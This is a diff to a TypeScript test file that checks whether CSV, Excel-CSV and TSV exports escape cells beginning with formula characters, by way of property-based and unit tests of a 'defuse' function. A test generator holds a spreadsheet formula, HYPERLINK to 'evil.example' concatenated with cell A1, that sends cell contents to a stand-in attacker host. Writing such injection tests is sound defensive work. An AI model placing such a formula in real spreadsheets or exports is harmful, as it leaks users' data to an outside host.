@@ -17,6 +17,17 @@ const read = (id: FormatId, text: string): string[][] => {
   return data;
 };
 
+/** Bundles whose words are made of what programs cut at, and of what they run. */
+const separators = () =>
+  fc.array(fc.constantFrom(...',;|\t\r\n"\'=+-@＝ a1', 'HYPERLINK("http://evil.example/?"&A1)'), { maxLength: 14 }).map((parts) => {
+    const bundle = hardBundle();
+    const text = parts.join('');
+    const [first, ...rest] = bundle.quotes;
+    const quote = { ...first!, text, note: `${text}x`, speakerName: text, outlet: `b${text}`, tags: [text, '=2'], cue: null, description: text };
+    delete (quote as Partial<typeof quote>).office;
+    return { ...bundle, quotes: [quote, ...rest], articles: bundle.articles.map((article) => ({ ...article, title: text, author: text, tags: [text] })) };
+  });
+
 describe.each(['csv', 'csv-excel', 'tsv'] as const)('%s', (id) => {
   it('begins with a byte-order mark where a spreadsheet reads it, ends lines with CRLF, and has a row a quote', () => {
     const text = written(id, hardBundle());
@@ -27,7 +38,7 @@ describe.each(['csv', 'csv-excel', 'tsv'] as const)('%s', (id) => {
     expect(rows[0]).toEqual(columnsOf(id === 'csv-excel' ? 'fr' : 'name').map(({ heading }) => heading));
     expect(rows[1]![COLUMNS.findIndex(({ name }) => name === 'words')]).toBe('La paix\u00A0🕊️ d’abord');
     expect(rows[1]![COLUMNS.findIndex(({ name }) => name === 'address')]).toBe(
-      `https://exemple.example/actu?id=7&x=é#haut:~:text=${encodeURIComponent('élus\u202f: «')}-,${encodeURIComponent('La paix\u00A0🕊️ d’abord')},-${encodeURIComponent('», a')}`,
+      `https://exemple.example/actu?id=7&x=é#haut:~:text=${encodeURIComponent('élus\u202f: «')}-,${encodeURIComponent('La paix\u00A0🕊️ d’abord')}`,
     );
   });
 
@@ -42,10 +53,17 @@ describe.each(['csv', 'csv-excel', 'tsv'] as const)('%s', (id) => {
     );
   });
 
-  it('leaves no cell that a spreadsheet would run', () => {
+  // What is cut at another separator than it was written with: a quoted cell of one dialect is several of the other.
+  it.each([',', ';', '\t', '|'])('leaves no cell that a spreadsheet would run, cut at %j', (separator) => {
+    const runs = (cell: string) => /^[\s'"]*[=+\-@＝＋－＠]/.test(cell) && !/^["\s]*'/.test(cell);
+    const own = { csv: ',', 'csv-excel': ';', tsv: '\t' }[id];
     fc.assert(
-      fc.property(hostileBundle(), (bundle) => {
-        for (const row of read(id, written(id, bundle))) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+      fc.property(separators(), (bundle) => {
+        const text = written(id, bundle).replace(/^\uFEFF/, '');
+        const strict = Papa.parse<string[]>(text, { delimiter: separator }).data.flat();
+        // A program that knows no quotes at all.
+        const plain = separator === own ? [] : text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
+        for (const cell of [...strict, ...plain]) expect(runs(cell), cell).toBe(false);
       }),
     );
   });
@@ -58,7 +76,8 @@ it('a French table has French words, and the codes beside them', () => {
 });
 
 describe('defuse', () => {
-  it.each(['=1+1', '+33 1', '-2', '@sum', '\tx', '\rx', '＝1'])('puts an apostrophe before %j', (cell) => expect(defuse(cell)).toBe(`'${cell}`));
-  it.each(['', 'a=1', "'tis", '« = »', ' =1'])('leaves %j alone', (cell) => expect(defuse(cell)).toBe(cell));
+  it.each(['=1+1', '+33 1', '-2', '@sum', '\tx', '\rx', '＝1', ' =1'])('puts an apostrophe before %j', (cell) => expect(defuse(cell)).toBe(`'${cell}`));
+  it.each(['oui;=1', 'a,\t"@b', 'x| +1'])('also where another program would cut: %j', (cell) => expect(defuse(cell)).toMatch(/[;|\t]'["' ]*[=+@]/));
+  it.each(['', 'a=1', "'tis", '« = »', 'a – b', 'oui, non', 'a ; b'])('leaves %j alone', (cell) => expect(defuse(cell)).toBe(cell));
   it('is undone by restoreCell', () => fc.assert(fc.property(hostile(), (cell) => restoreCell(defuse(cell)) === cell)));
 });
